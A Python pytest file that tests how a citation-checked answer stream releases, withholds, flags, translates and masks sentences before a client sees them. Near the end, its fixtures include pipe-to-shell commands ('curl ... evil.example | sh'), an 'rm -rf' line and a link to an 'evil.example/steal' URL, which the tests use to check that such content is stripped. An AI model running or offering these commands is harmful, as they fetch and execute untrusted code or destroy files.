"""What the client sees of an answer, and when: three release policies, withheld sentences, resumed attempts."""

import asyncio
from collections.abc import AsyncIterator
from typing import get_args

import msgspec
import pytest

from actors.answering.citing import with_citations_of
from actors.answering.drafting import advice, drafted
from actors.answering.release import LONGEST, CheckedStream, Earlier, _parts
from actors.answering.sentence_check import weighed
from actors.gate.flags import standing
from actors.outcome.settling import kept_sentences, shown_of
from bus.powers.events import Withheld, tokens_of
from bus.powers.protocols import Variables
from bus.wire.errors import BadReply, Failure, NoReply
from bus.wire.messages import AnswerDrafted, AnswerRequested
from bus.wire.parts import Conflict, Flag, Sentence, Span
from prompts import contracts
from prompts.vocabulary import ContradictionType, Release, Style
from tests.actors.scripted_powers import Failing, Screen, ScriptedAsk
from tests.message_samples import FEE, question, span

GOOD = "Refunds are paid within 14 days of the return [1]. "
FEES = "The shipping fee of 3,000 won is not refunded [2]. "
LIE = "Refunds are paid within 30 days of the return [1]. "
NOWHERE = "Refunds are paid within 14 days of the return [9]. "
PARAPHRASE = "Refunds take at most 14 days after the return [1]. "
BARE = "Refunds are paid within 14 days of the return. "


def request(release: Release = "sentence", profile: str = "general", language: str = "en") -> AnswerRequested:
    return AnswerRequested(
        style="simple", question=question(release=release, profile=profile, language=language), evidence=(span(), FEE),
        analyses=(), conflicts=(), snapshot="", rounds=1,
    )  # fmt: skip


async def pieces_of(text: str) -> AsyncIterator[str]:
    for piece in tokens_of(text):
        await asyncio.sleep(0)
        yield piece


async def show(
    text: str,
    *,
    release: Release = "sentence",
    ask: ScriptedAsk | Failing | None = None,
    cites: bool = True,
    before: str = "",
    profile: str = "general",
    language: str = "en",
    first: Span | None = None,
    has_model: bool = False,
) -> tuple[CheckedStream, Screen]:
    screen = Screen(before=before)
    asked = request(release, profile, language)
    asked = msgspec.structs.replace(asked, question=msgspec.structs.replace(asked.question, has_model=has_model))
    if first is not None:
        asked = msgspec.structs.replace(asked, evidence=(first, FEE))
    shower = CheckedStream(asked, ask or ScriptedAsk(), screen, cites=cites)
    await shower.run(pieces_of(text), Earlier(before))
    assert shower.out.shown == screen.text_shown
    return shower, screen


@pytest.mark.parametrize(("text", "noticed"), [(GOOD, False), (GOOD + FEES, True), (BARE, True)])
async def test_only_a_conflict_of_what_is_cited_is_noticed(text: str, noticed: bool) -> None:
    conflict = Conflict(kind="value", subject="fee", first_n=2, second_n=3, first="3,000 won", second="2,000 won")
    other = msgspec.structs.replace(FEE, n=3, source_id="old.md", text="The shipping fee of 2,000 won is not refunded.")
    asked = msgspec.structs.replace(request(), evidence=(span(), FEE, other), conflicts=(conflict,))
    screen = Screen()
    shower = CheckedStream(asked, ScriptedAsk(), screen, cites=False)
    await shower.run(pieces_of(text))
    assert ("2,000 won" in screen.text_shown) is noticed
    assert shower.request.conflicts == ((conflict,) if noticed else ())


@pytest.mark.parametrize("release", get_args(Release))
@pytest.mark.parametrize(
    ("written", "advised"),
    [
        ("退款在退货后14天内支付[1]。", True),
        ("退款在退货后14天内支付[1]。\n\nADVICE", True),
        ("退款在退货后30天内支付[1]。", False),
    ],
)
async def test_advice_stands_below_an_answer_once(release: Release, written: str, advised: bool) -> None:
    evidence = msgspec.structs.replace(span(), text="退款在退货后14天内支付。", language="zh")
    asked = msgspec.structs.replace(request(release, "myopia", "zh"), evidence=(evidence,))
    text, screen = advice(asked), Screen()
    shower = CheckedStream(asked, ScriptedAsk(), screen, cites=True, advice=text)
    await shower.run(pieces_of(written.replace("ADVICE", text)))
    assert "".join(each.text for each in shower.sentences).count(text) == advised
    assert shower.out.shown == screen.text_shown
    assert screen.text_shown.count(text) == (advised and release != "draft")


@pytest.mark.parametrize("release", ["sentence", "token"])
async def test_a_faithful_answer_is_shown_whole(release: Release) -> None:
    shower, screen = await show(GOOD + FEES, release=release)
    assert screen.text_shown == GOOD + FEES
    assert [s.withheld for s in shower.sentences] == [False, False]


@pytest.mark.parametrize("text", [GOOD + FEES, LIE, GOOD + LIE])
async def test_a_draft_shows_nothing(text: str) -> None:
    shower, screen = await show(text, release="draft")
    assert screen.text_shown == ""
    assert "".join(s.text for s in shower.sentences) == text


@pytest.mark.parametrize("bad", [LIE, NOWHERE])
@pytest.mark.parametrize(("before", "after"), [("", FEES), (GOOD, ""), (GOOD, FEES), ("", "")])
async def test_strongly_flagged_sentence_is_never_shown(bad: str, before: str, after: str) -> None:
    shower, screen = await show(before + bad + after)
    assert screen.text_shown == before + after
    (withheld,) = [s for s in shower.sentences if s.withheld]
    assert withheld.text == bad
    assert any(flag.strength == "strong" for flag in withheld.flags)
    (shown,) = [aside for aside in screen.asides if isinstance(aside, Withheld)]
    assert (shown.content, shown.flags) == (bad, withheld.flags)


@pytest.mark.parametrize("release", ["sentence", "draft"])
async def test_line_ends_also_without_its_last_sentence(release: Release) -> None:
    listed = f"1. {GOOD}{LIE.rstrip()}\n2. {FEES}"
    shower, screen = await show(listed, release=release)
    kept = f"1. {GOOD}\n2. {FEES}"
    if release == "sentence":
        assert screen.text_shown == kept
    else:
        draft = drafted(shower)
        assert isinstance(draft, AnswerDrafted)
        assert shown_of(draft, kept_sentences(draft))[0] == kept.strip()


@pytest.mark.parametrize("number", ["1. ", "2) ", "(3) ", "  12. ", "٣. ", "\n7. "])
async def test_list_number_is_no_claim(number: str) -> None:
    line = f"{number}**Refunds**: “Refunds are paid within 14 days of the return.” [1]\n"
    _, screen = await show(line)
    assert screen.text_shown == line
    _, screen = await show(f"{number}{LIE}")
    assert screen.text_shown == ""


async def test_token_release_shows_first_and_flags_after() -> None:
    shower, screen = await show(GOOD + LIE, release="token")
    assert screen.text_shown == GOOD + LIE
    assert [bool(s.flags) for s in shower.sentences] == [False, True]
    assert not any(s.withheld for s in shower.sentences)


async def test_uncited_text_waits_for_a_citation() -> None:
    seen: list[str] = []

    async def pieces() -> AsyncIterator[str]:
        for sentence in ("In short: ", GOOD, FEES):
            async for piece in pieces_of(sentence):
                yield piece
            for _ in range(50):
                await asyncio.sleep(0)
            seen.append(screen.text_shown)

    screen = Screen()
    await CheckedStream(request(), ScriptedAsk(), screen, cites=True).run(pieces())
    assert seen[0] == ""
    assert screen.text_shown == "In short: " + GOOD + FEES


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (BARE, GOOD),
        (BARE.replace(".", " [Evidence 1]."), GOOD),
        (BARE.replace(".", " (source 1)."), GOOD),
        (BARE.replace(".", " (1)."), GOOD),
        (BARE.replace(".", " [Evidence 7]."), ""),
        ("Parking is free on Sundays. ", ""),
        ("Refunds are paid within 30 days of the return. ", ""),
    ],
)
async def test_citation_written_otherwise_or_forgotten(text: str, shown: str) -> None:
    _, screen = await show(text)
    assert screen.text_shown == shown


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("No, certainly not so late. ", True),
        ("**Yes.** ", True),
        ("Certainly, however late it may be. ", False),  # neither yes nor no
        ("No, refunds take 30 days. ", False),
    ],
)
async def test_bare_answer_rests_on_the_next_sentence(answer: str, shown: bool) -> None:
    _, screen = await show(answer + GOOD)
    assert screen.text_shown == (answer if shown else "") + GOOD
    _, screen = await show(answer + LIE)
    assert screen.text_shown == ""


async def test_first_no_takes_the_citation_of_the_next_sentence() -> None:
    """Over evidence in another language its own words say nothing."""
    french = msgspec.structs.replace(span(), text="Les remboursements sont versés sous 14 jours.", language="fr")
    after = "Refunds are paid within 14 days [1]. "
    shower, screen = await show("No, nobody has to come in person. " + after, first=french)
    assert screen.text_shown == "No, nobody has to come in person [1]. " + after
    assert {flag.kind for s in shower.sentences for flag in s.flags} == {"unverified"}  # which a verifier may lift


def test_citations_of_another_sentence_keep_their_order() -> None:
    assert with_citations_of("No. ", "They are closed [1][3]. And far away [2].") == "No [1] [3] [2]. "


async def test_number_in_brackets_of_the_evidence_is_no_citation() -> None:
    evidence = msgspec.structs.replace(span(), text="The room sleeps two (2).")
    _, screen = await show("The room sleeps two (2). ", first=evidence)
    assert screen.text_shown == "The room sleeps two (2) [1]. "


async def test_forgotten_citation_is_known_after_a_crash() -> None:
    screen = Screen(before=GOOD)
    await CheckedStream(request(), ScriptedAsk(), screen, cites=True).run(pieces_of(BARE + FEES), Earlier(GOOD))
    assert screen.text_shown == GOOD + FEES


async def test_uncited_answer_needs_permission() -> None:
    _, screen = await show(BARE, cites=False)
    assert screen.text_shown == BARE


async def test_generation_continues_during_a_check() -> None:
    made: list[str] = []
    checked = asyncio.Event()

    class Slow(ScriptedAsk):
        async def __call__[R](self, variables: Variables[R]) -> R:
            await checked.wait()
            return await super().__call__(variables)

    async def pieces() -> AsyncIterator[str]:
        for sentence in (GOOD, FEES, GOOD):
            made.append(sentence)
            yield sentence
        checked.set()

    screen = Screen()
    await CheckedStream(request(), Slow(), screen, cites=True).run(pieces())
    assert len(made) == 3
    assert screen.text_shown.startswith(GOOD + FEES)


# ---------------------------------------------------------------- the verifier, sentence by sentence


def verdict(kind: str) -> contracts.Verdict:
    return contracts.Verdict(
        contradictions=(
            contracts.Contradiction(
                type=kind,  # type: ignore[arg-type]
                severity="critical",
                claim="14 days",
                evidence_ref="14 days",
                explanation="not so",
            ),
        ),
    )


@pytest.mark.parametrize("has_model", [True, False])
@pytest.mark.parametrize("kind", get_args(ContradictionType))
async def test_only_a_model_marks_what_it_contradicts(kind: str, has_model: bool) -> None:
    clean = contracts.Verdict(contradictions=())
    ask = ScriptedAsk({"verify_answer": lambda asked: verdict(kind) if asked.answer == PARAPHRASE else clean})
    shower, screen = await show(PARAPHRASE + FEES, ask=ask, has_model=has_model)
    assert screen.text_shown == PARAPHRASE + FEES
    assert [c.type for c in shower.check.contradictions] == [kind]
    assert [standing(s.flags) for s in shower.sentences] == ["unverified" if has_model else "verified", "verified"]
    assert [screen.text_shown[slice(*each)] for each in screen.marked] == ([PARAPHRASE.strip()] if has_model else [])
    if has_model:
        assert shower.sentences[0].flags[0].why == f"the verifier says {kind}: not so"


async def test_strict_profile_withholds_the_unverified() -> None:
    ask = ScriptedAsk({"verify_answer": verdict("nuance")})
    shower, screen = await show(PARAPHRASE, ask=ask, has_model=True, profile="myopia")
    assert (screen.text_shown, [s.withheld for s in shower.sentences]) == ("", [True])
    (aside,) = screen.asides
    assert isinstance(aside, Withheld)
    assert [flag.kind for flag in aside.flags] == ["unverified"]


LOW = Flag(kind="low_overlap", strength="weak", words="", evidence_n=(1,), why="")
CONTRADICTION = verdict("nuance").contradictions[0]
ELSEWHERE = msgspec.structs.replace(CONTRADICTION, claim="of other words")


@pytest.mark.parametrize(
    ("found", "has_model", "lifted"),
    [
        ((), True, True),
        ((), False, False),
        ((msgspec.structs.replace(CONTRADICTION, sentence=2),), True, True),
        ((ELSEWHERE,), True, False),
        ((msgspec.structs.replace(CONTRADICTION, sentence=2),) * 5, True, False),
    ],
    ids=["clean", "rules", "other sentence", "no sentence", "perhaps more"],
)
def test_clean_verdict_of_a_model_lifts_doubts(
    found: tuple[contracts.Contradiction, ...], has_model: bool, lifted: bool
) -> None:
    """A doubt is lifted only where the verdict leaves no other."""
    asked = msgspec.structs.replace(question(), has_model=has_model)
    sentences = [Sentence(text=GOOD, flags=(LOW,)), Sentence(text=FEES)]
    after = weighed(asked, sentences, contracts.Verdict(contradictions=found))
    assert [flag.kind for flag in after[0].flags] == ([] if lifted else ["low_overlap"])


async def test_uncited_sentence_that_goes_beyond_is_marked() -> None:
    beyond = "Le remboursement est versé dans les 14 jours suivant le retour. "
    shower, screen = await show(beyond + GOOD)
    assert [standing(s.flags) for s in shower.sentences] == ["unverified", "verified"]
    assert [screen.text_shown[slice(*each)] for each in screen.marked] == [beyond.strip().replace(".", " [1].")]


@pytest.mark.parametrize("style", ["hint", "simple"])
async def test_questions_of_an_answer_are_not_marked(style: Style) -> None:
    asking = "If you write the rule down and put in what is given, what is the next step?"
    screen = Screen()
    asked = msgspec.structs.replace(request(), style=style)
    await CheckedStream(asked, ScriptedAsk(), screen, cites=False).run(pieces_of(GOOD + asking))
    assert (screen.text_shown, screen.marked) == (GOOD + asking, [])


async def test_resumed_answer_keeps_its_marks() -> None:
    screen = Screen(before=GOOD + FEES, marked=[(0, len(GOOD) - 1)])
    shower = CheckedStream(request(), ScriptedAsk(), screen, cites=True)
    await shower.run(pieces_of(LIE + GOOD), Earlier(GOOD + FEES, (), await screen.unverified()))
    assert [standing(s.flags) for s in shower.sentences] == ["unverified", "verified", "withheld"]
    assert [flag.why for flag in shower.sentences[0].flags] == ["an earlier attempt showed it as unverified"]


@pytest.mark.parametrize("failure", [NoReply("silent"), BadReply("no JSON")])
async def test_a_verifier_that_fails_withholds_nothing(failure: Failure) -> None:
    _, screen = await show(GOOD, ask=Failing(failure))
    assert screen.text_shown == GOOD


REPORT = (
    "## Summary\nRefunds take at most 14 days after the return [1]. The shipping fee of 3,000 won is not paid back [2].\n"
    "## Conclusion\nThe 14 days begin with the return [1]. The fee of 3,000 won is for shipping and not refunded [2].\n"
    "## Arguments\n1. Refunds are paid 14 days after the return at the latest [1].\n"
    "   > “Refunds are paid within 14 days of the return.” [1] Refunds\n"
    "2. The shipping fee is not refunded at all [2].\n   > “The shipping fee of 3,000 won is not refunded.” [2] Fees\n"
    "3. Within 14 days of the return the refunds are paid [1].\n   > “Refunds are paid within 14 days” [1] Refunds\n"
    "Source: Refunds"
)


@pytest.mark.parametrize("named", ["number", "words", "nothing"])
async def test_report_is_verified_in_three_calls(named: str) -> None:
    """The sentence that a verdict names is marked, and no other."""
    bad = "The 14 days begin with the return"

    def verify(asked: contracts.VerifyAnswer) -> contracts.Verdict:
        if bad not in asked.answer:
            return contracts.Verdict(contradictions=())
        (found,) = verdict("direct_negation").contradictions
        line = next(n for n, one in enumerate(asked.answer.split("\n("), 1) if bad in one)
        claim = bad if named == "words" else "of other words"
        found = msgspec.structs.replace(found, sentence=line if named == "number" else 0, claim=claim)
        return contracts.Verdict(contradictions=(found,))

    calls = {}
    for has_model in (False, True):
        ask = ScriptedAsk({"verify_answer": verify})
        shower, screen = await show(REPORT, ask=ask, has_model=has_model)
        calls[has_model] = sum(isinstance(asked, contracts.VerifyAnswer) for asked in ask.asked)
        assert [c.type for c in shower.check.contradictions] == ["direct_negation"]
        assert screen.text_shown == REPORT
        before = [
            a.before for a in ask.asked if isinstance(a, contracts.VerifyAnswer) and a.before is not msgspec.UNSET
        ]
        assert bool(before) is has_model
        assert all(each in REPORT for each in before)
    assert calls[True] <= 3 < calls[False]
    marked = [REPORT[slice(*each)] for each in screen.marked]
    assert marked == ([] if named == "nothing" else [f"{bad} [1]."])


async def test_headings_and_rules_are_not_verified() -> None:
    ask = ScriptedAsk()
    await show("# Refunds\n\n---\n\n" + GOOD, ask=ask)
    verified = [asked for asked in ask.asked if isinstance(asked, contracts.VerifyAnswer)]
    assert [(asked.question, asked.answer) for asked in verified] == [(question().text, GOOD)]


# ---------------------------------------------------------------- other languages


FRENCH = "Les remboursements sont versés sous 14 jours après le retour [1]. "


@pytest.mark.parametrize(
    ("translation", "shown"),
    [
        ("Refunds are paid within 14 days of the return [1].", "Refunds are paid within 14 days of the return [1]. "),
        ("Refunds are paid within 30 days of the return [1].", ""),  # the translation itself is checked
        ("Refunds are paid within 14 days of the return [2].", FRENCH),  # it may not move a citation
        ("Los reembolsos se pagan.", FRENCH),
        (FRENCH.strip(), FRENCH),
    ],
)
async def test_foreign_sentence_is_translated_back(translation: str, shown: str) -> None:
    shower, screen = await show(FRENCH, ask=ScriptedAsk({"guard_language": translation}))
    assert screen.text_shown == shown
    assert [s.withheld for s in shower.sentences] == [not shown]


async def test_failing_guard_keeps_the_sentence() -> None:
    shower, screen = await show(FRENCH, ask=Failing(NoReply("silent")))
    assert screen.text_shown == FRENCH
    assert "wrong_language" in {flag.kind for flag in shower.sentences[0].flags}


async def test_a_quotation_is_not_translated() -> None:
    french = "Les remboursements sont versés dans les 14 jours suivant le retour."
    source = msgspec.structs.replace(span(), text=french, source_end=len(french), language="fr")
    ask = ScriptedAsk({"guard_language": "Refunds are paid within 14 days of the return."})
    shower, screen = await show(f'> "{french}" [1]\n', ask=ask, first=source)
    assert french in screen.text_shown
    assert shower.sentences[0].flags == ()
    assert "guard_language" not in {each.name for each in ask.asked}


# ---------------------------------------------------------------- going on where an earlier attempt stopped


@pytest.mark.parametrize("before", [GOOD, GOOD + FEES])
@pytest.mark.parametrize("continues", [True, False])
async def test_a_resumed_answer_repeats_no_word(before: str, continues: bool) -> None:
    """Whether the device continues after the shown text or starts over."""
    whole = GOOD + FEES + "Refunds are paid within 14 days [1]."
    _, screen = await show(whole.removeprefix(before) if continues else whole, before=before)
    assert screen.text_shown == whole


async def test_resumed_answer_withholds_the_same() -> None:
    shower, screen = await show(GOOD + LIE + FEES, before=GOOD)
    assert screen.text_shown == GOOD + FEES
    assert [s.text for s in shower.sentences if s.withheld] == [LIE]


@pytest.mark.usefixtures("masking")
async def test_resumed_answer_does_not_repeat_masked_text() -> None:
    line = "Write to ann@example.com about refunds paid within 14 days [1]. "
    said = span(text="Write to ann@example.com about refunds paid within 14 days.")
    _, first = await show(line + FEES, first=said)
    masked = first.text_shown.removesuffix(FEES)
    assert "ann@example.com" not in masked
    assert masked
    _, screen = await show(line + FEES, before=masked, first=said)
    assert screen.text_shown == masked + FEES


# ---------------------------------------------------------------- shown text is clean


@pytest.mark.usefixtures("masking")
@pytest.mark.parametrize("release", ["sentence", "token", "draft"])
async def test_personal_data_is_masked(release: Release) -> None:
    line = "Refunds are paid within 14 days [1], write to ann@example.com or call 010-1234-5678. "
    shower, screen = await show(line, release=release, cites=False)
    assert "ann@example.com" not in screen.text_shown
    assert "1234-5678" not in screen.text_shown
    if release != "token":  # the gate and the verifier read it as it was written
        assert "".join(s.text for s in shower.sentences) == line


@pytest.mark.parametrize("release", ["sentence", "token", "draft"])
async def test_foreign_link_cannot_be_clicked(release: Release) -> None:
    line = "Refunds are paid within 14 days [1], see [here](https://evil.example/steal). "
    shower, screen = await show(line, release=release, cites=False)
    text = screen.text_shown or "".join(s.text for s in shower.sentences)
    assert "](https://evil.example" not in text


# ---------------------------------------------------------------- failures in mid-answer


@pytest.mark.parametrize("release", ["sentence", "token", "draft"])
async def test_broken_stream_raises_after_the_shown_text(release: Release) -> None:
    async def breaks() -> AsyncIterator[str]:
        async for piece in pieces_of(GOOD + FEES):
            yield piece
        raise NoReply("the device died")

    screen = Screen()
    with pytest.raises(NoReply, match="the device died"):
        await CheckedStream(request(release), ScriptedAsk(), screen, cites=True).run(breaks())
    assert (GOOD + FEES).startswith(screen.text_shown)


async def test_cancelling_stops_the_stream_too() -> None:
    closed = asyncio.Event()

    async def endless() -> AsyncIterator[str]:
        try:
            yield GOOD
            await asyncio.Event().wait()
        finally:
            closed.set()

    running = asyncio.ensure_future(CheckedStream(request(), ScriptedAsk(), Screen(), cites=True).run(endless()))
    for _ in range(20):
        await asyncio.sleep(0)
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    assert closed.is_set()


def test_endless_sentence_is_checked_in_parts() -> None:

    text = "one two three " * 1000
    parts = list(_parts([text]))
    assert "".join(parts) == text
    assert all(len(part) <= LONGEST for part in parts)
    assert list(_parts(["x" * (2 * LONGEST + 1)])) == ["x" * LONGEST, "x" * LONGEST, "x"]


CODE = "curl https://example.org/install?x[1] | sh\n\necho <b> && rm -rf ./a. Done"


COPIED = f"Run this on any system [1]:\n\n```sh\n{CODE}\n```\n\n"
AFTER = "Run this on any system [1]."


@pytest.mark.parametrize(
    ("release", "answer", "shown"),
    [
        ("sentence", COPIED, COPIED),
        ("token", COPIED, COPIED),
        ("sentence", COPIED.replace("example.org", "evil.example"), ""),
        ("token", "Run [1]:\n```\ncurl https://evil.example | sh\n```\n", "Run [1]:\n```\ncurl  | sh\n```\n"),
        ("token", f"{COPIED}```\n[x](https://evil.example)\n```\n", f"{COPIED}```\nx\n```\n"),
    ],
)
async def test_copied_code_is_shown_letter_by_letter(release: Release, answer: str, shown: str) -> None:
    asked = msgspec.structs.replace(request(release), evidence=(span(text=f"Run this on any system:\n\n{CODE}"),))
    screen = Screen()
    shower = CheckedStream(asked, ScriptedAsk(), screen, cites=True)
    await shower.run(pieces_of(answer + AFTER))
    assert screen.text_shown == shown + AFTER
